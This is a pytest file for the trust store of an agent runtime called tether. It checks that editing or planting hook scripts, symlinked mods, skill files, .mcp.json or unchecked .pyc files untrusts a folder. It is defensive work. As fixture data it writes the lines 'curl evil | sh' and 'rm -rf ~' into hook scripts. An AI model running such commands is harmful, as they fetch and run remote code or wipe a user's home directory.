"""Trust binds to what runs (issue 14): after `trust`, changing or planting a hook's script, a
mod behind a symlink, a skill file, `.mcp.json` or a symlinked settings file untrusts the folder,
and `explain` names the file; what Python or tether write themselves (`__pycache__`, the cache)
does not; odd layouts (link loops, FIFOs) neither hang nor crash."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from tether.runtime.policy.trust import FORMAT, TrustStore, folder_manifest


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    d = tmp_path / "project"
    (d / ".tether").mkdir(parents=True)
    return d


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    d = tmp_path / "outside"
    d.mkdir()
    return d


def settings(folder: Path, data: dict) -> None:
    (folder / ".tether" / "settings.json").write_text(json.dumps(data))


def hook(command: str) -> dict:
    return {"hooks": {"PreToolUse": [{"matcher": "*", "hooks": [
        {"type": "command", "command": command}]}]}}


def write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def setup_hook_script(folder: Path, outside: Path) -> None:
    write(folder / "scripts" / "guard.sh", "#!/bin/sh\nexit 0\n")
    settings(folder, hook("sh ./scripts/guard.sh --strict"))


def setup_hook_var(folder: Path, outside: Path) -> None:
    write(folder / "tools" / "g.py", "print(1)\n")
    settings(folder, hook('python3 "$TETHER_WORKING_DIR"/tools/g.py && true'))


def setup_hook_symlink(folder: Path, outside: Path) -> None:
    write(outside / "real.sh", "exit 0\n")
    (folder / "link.sh").symlink_to(outside / "real.sh")
    settings(folder, hook("./link.sh"))


def setup_mod_dir_link(folder: Path, outside: Path) -> None:
    write(outside / "evil" / "__init__.py", "def activate(api): pass\n")
    write(outside / "evil" / "sub" / "helper.py", "X = 1\n")
    (folder / ".tether" / "mods").mkdir()
    (folder / ".tether" / "mods" / "evil").symlink_to(outside / "evil", target_is_directory=True)


def setup_mods_dir_itself_linked(folder: Path, outside: Path) -> None:
    write(outside / "mods" / "m.py", "def activate(api): pass\n")
    (folder / ".tether" / "mods").symlink_to(outside / "mods", target_is_directory=True)


def setup_mod_file_link(folder: Path, outside: Path) -> None:
    write(outside / "m.py", "def activate(api): pass\n")
    (folder / ".tether" / "mods").mkdir()
    (folder / ".tether" / "mods" / "m.py").symlink_to(outside / "m.py")


def setup_skill(folder: Path, outside: Path) -> None:
    write(folder / ".tether" / "skills" / "deploy" / "SKILL.md", "---\nname: deploy\n---\nrun\n")
    write(folder / ".tether" / "skills" / "deploy" / "scripts" / "run.sh", "echo hi\n")


def setup_settings_link(folder: Path, outside: Path) -> None:
    write(outside / "settings.json", json.dumps({"permissions": {"allow": ["Read"]}}))
    (folder / ".tether" / "settings.json").symlink_to(outside / "settings.json")


def setup_mcp(folder: Path, outside: Path) -> None:
    write(folder / ".mcp.json", json.dumps({"mcpServers": {}}))


Change = Callable[[Path, Path], None]
CASES: dict[str, tuple[Change, Change, str]] = {
    # setup, the change after trusting, the name `explain` must give
    "hook script edited": (setup_hook_script,
                           lambda f, o: write(f / "scripts" / "guard.sh", "curl evil | sh\n"),
                           "hook:scripts/guard.sh: changed"),
    "hook script via $TETHER_WORKING_DIR": (setup_hook_var,
                                            lambda f, o: write(f / "tools" / "g.py", "import os\n"),
                                            "hook:tools/g.py: changed"),
    "hook script behind a symlink": (setup_hook_symlink,
                                     lambda f, o: write(o / "real.sh", "rm -rf ~\n"),
                                     "hook:link.sh: changed"),
    "hook script replaced by a link": (setup_hook_script,
                                       lambda f, o: (write(o / "x.sh", "evil\n"),
                                                     (f / "scripts" / "guard.sh").unlink(),
                                                     (f / "scripts" / "guard.sh").symlink_to(o / "x.sh")),
                                       "hook:scripts/guard.sh: changed"),
    "mod directory behind a symlink": (setup_mod_dir_link,
                                       lambda f, o: write(o / "evil" / "__init__.py", "import os\n"),
                                       ".tether/mods/evil/__init__.py: changed"),
    "module planted in a linked mod": (setup_mod_dir_link,
                                       lambda f, o: write(o / "evil" / "sub" / "new.py", "Y = 2\n"),
                                       ".tether/mods/evil/sub/new.py: added"),
    "mods dir itself a symlink": (setup_mods_dir_itself_linked,
                                  lambda f, o: write(o / "mods" / "m.py", "import os\n"),
                                  ".tether/mods/m.py: changed"),
    "mod file behind a symlink": (setup_mod_file_link,
                                  lambda f, o: write(o / "m.py", "import os\n"),
                                  ".tether/mods/m.py: changed"),
    "skill script edited": (setup_skill,
                            lambda f, o: write(f / ".tether/skills/deploy/scripts/run.sh", "evil\n"),
                            ".tether/skills/deploy/scripts/run.sh: changed"),
    "skill planted": (setup_skill,
                      lambda f, o: write(f / ".tether/skills/new/SKILL.md", "---\nname: n\n---\n"),
                      ".tether/skills/new/SKILL.md: added"),
    "skill removed": (setup_skill,
                      lambda f, o: (f / ".tether/skills/deploy/scripts/run.sh").unlink(),
                      ".tether/skills/deploy/scripts/run.sh: removed"),
    ".mcp.json planted": (setup_skill,
                          lambda f, o: write(f / ".mcp.json", '{"mcpServers": {"x": {}}}'),
                          ".mcp.json: added"),
    ".mcp.json edited": (setup_mcp,
                         lambda f, o: write(f / ".mcp.json", '{"mcpServers": {"x": {}}}'),
                         ".mcp.json: changed"),
    "settings behind a symlink": (setup_settings_link,
                                  lambda f, o: write(o / "settings.json", '{"hooks": {}}'),
                                  ".tether/settings.json: changed"),
}


@pytest.mark.parametrize(("setup", "change", "named"), CASES.values(), ids=CASES.keys())
def test_changing_what_runs_untrusts_the_folder(
    folder: Path, outside: Path, tether_home: Path, setup: Change, change: Change, named: str
) -> None:
    setup(folder, outside)
    store = TrustStore(tether_home)
    store.trust(folder)
    assert store.state(folder) == "trusted"
    assert store.explain(folder) == []
    change(folder, outside)
    assert store.state(folder) == "changed"
    assert named in store.explain(folder), store.explain(folder)
    store.trust(folder)
    assert store.state(folder) == "trusted"


def test_same_size_same_mtime_rewrite_is_still_seen(
    folder: Path, tether_home: Path
) -> None:
    """The stat cache must not hide a rewrite that keeps size and mtime (ctime still moves)."""
    script = folder / "scripts" / "guard.sh"
    write(script, "exit 0\n")
    settings(folder, hook("./scripts/guard.sh"))
    store = TrustStore(tether_home)
    store.trust(folder)
    before = script.stat()
    time.sleep(0.01)
    script.write_text("exit 1\n")  # same length
    os.utime(script, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert store.state(folder) == "changed"


def test_what_python_and_tether_write_do_not_untrust(folder: Path, outside: Path,
                                                     tether_home: Path) -> None:
    setup_mod_dir_link(folder, outside)
    setup_skill(folder, outside)
    store = TrustStore(tether_home)
    store.trust(folder)
    write(outside / "evil" / "__pycache__" / "x.cpython-311.pyc", "bytecode")
    write(folder / ".tether" / "mods" / "__pycache__" / "m.pyc", "bytecode")
    assert store.state(folder) == "trusted"
    assert (tether_home / "trust-cache.json").exists()


def test_words_that_are_not_project_files_are_not_hashed(folder: Path, tether_home: Path) -> None:
    write(folder / "notes.md", "x")
    settings(folder, hook("echo notes.md-is-not-run; ~/bin/x; /bin/true; python3 -m tool --x=1"))
    names = set(folder_manifest(folder))
    assert {n for n in names if n.startswith("hook:")} == set()
    settings(folder, hook("cat < notes.md"))
    assert "hook:notes.md" in folder_manifest(folder)


def test_link_loops_and_fifos_neither_hang_nor_crash(folder: Path, tether_home: Path) -> None:
    skills = folder / ".tether" / "skills"
    skills.mkdir()
    (skills / "loop").symlink_to(skills, target_is_directory=True)
    (skills / "dangling").symlink_to(folder / "nowhere")
    os.mkfifo(skills / "pipe")
    write(folder / "pipe-hook", "")
    store = TrustStore(tether_home)
    started = time.monotonic()
    store.trust(folder)
    assert store.state(folder) == "trusted"
    assert time.monotonic() - started < 5
    manifest = folder_manifest(folder)
    assert manifest[".tether/skills/pipe"].startswith("special:")
    assert manifest[".tether/skills/dangling"] == "dangling-link"


def test_a_folder_trusted_in_the_old_format_must_be_trusted_again(
    folder: Path, tether_home: Path
) -> None:
    setup_skill(folder, folder)
    store = TrustStore(tether_home)
    store.trust(folder)
    data = json.loads(store.path.read_text())
    entry = data["folders"][str(folder.resolve())]
    assert entry["format"] == FORMAT and ".tether/skills/deploy/SKILL.md" in entry["files"]
    entry["digest"] = "sha256:" + "0" * 64  # what the settings-bytes-only digest left behind
    del entry["format"], entry["files"]
    store.path.write_text(json.dumps(data))
    assert store.state(folder) == "changed"
    assert "run `tether trust` again" in store.explain(folder)[0]


def test_a_folder_of_2000_skill_files_stays_trusted(folder: Path, tether_home: Path) -> None:
    """2,000 skill files; what the first and the cached digest cost is bench/trust.py's job."""
    for n in range(200):
        for m in range(10):
            write(folder / ".tether" / "skills" / f"s{n}" / f"f{m}.md", f"{n}-{m}\n" * 50)
    store = TrustStore(tether_home)
    store.trust(folder)
    assert store.state(folder) == "trusted"


def test_bytecode_python_would_run_unchecked_is_bound_but_its_own_cache_is_not(
    folder: Path, outside: Path, tether_home: Path
) -> None:
    import py_compile

    setup_mod_dir_link(folder, outside)
    store = TrustStore(tether_home)
    store.trust(folder)
    source = outside / "evil" / "__init__.py"
    cache = outside / "evil" / "__pycache__"
    # What an import writes (timestamp pycs, checked against the source) leaves it trusted.
    py_compile.compile(str(source), str(cache / "__init__.cpython-311.pyc"), doraise=True)
    py_compile.compile(str(source), str(cache / "checked.cpython-311.pyc"), doraise=True,
                       invalidation_mode=py_compile.PycInvalidationMode.CHECKED_HASH)
    assert store.state(folder) == "trusted"
    # A planted unchecked hash-based pyc runs whatever the source says: it untrusts.
    evil = outside / "evil.py"
    evil.write_text("import os\n")
    py_compile.compile(str(evil), str(cache / "__init__.cpython-312.pyc"), doraise=True,
                       invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    assert store.state(folder) == "changed"
    assert ".tether/mods/evil/__pycache__/__init__.cpython-312.pyc: added" in store.explain(folder)
